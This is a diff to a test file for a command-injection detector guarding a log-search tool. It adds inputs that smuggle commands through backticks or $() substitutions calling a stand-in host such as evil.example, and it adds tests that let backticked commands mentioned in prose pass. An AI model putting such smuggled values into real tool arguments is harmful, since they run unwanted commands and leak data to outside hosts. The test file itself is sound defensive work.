@@ -378,6 +378,9 @@ describe('command injection', () => {
     'x\nssh a@evil.example',
     '{"id": "$(ping evil.example)"}',
     'x `nslookup a.evil.example`',
+    'x`dig a.evil.example`',
+    '`ping evil.example`',
+    'name=`ping evil.example`',
   ])('takes a program that reaches a host by its name for a command: %j', (query) => {
     for (const name of ['query', 'filename']) expect(blocked('search_logs', { [name]: query })).toBe(true);
   });
@@ -396,4 +399,12 @@ describe('command injection', () => {
   ])('takes the end of a search for a command: %s', (query) => {
     expect(blocked('search_logs', { query })).toBe(true);
   });
+
+  // What a shell would take for a name to ask is read here as a command that somebody speaks of.
+  it.each(['use `ping example.com` to test', 'Run `ping example.com`', 'the `x` host example.com is down'])(
+    'takes a command between backticks behind a word for one that is spoken of: %s',
+    (query) => {
+      expect(blocked('search_logs', { query })).toBe(false);
+    },
+  );
 });
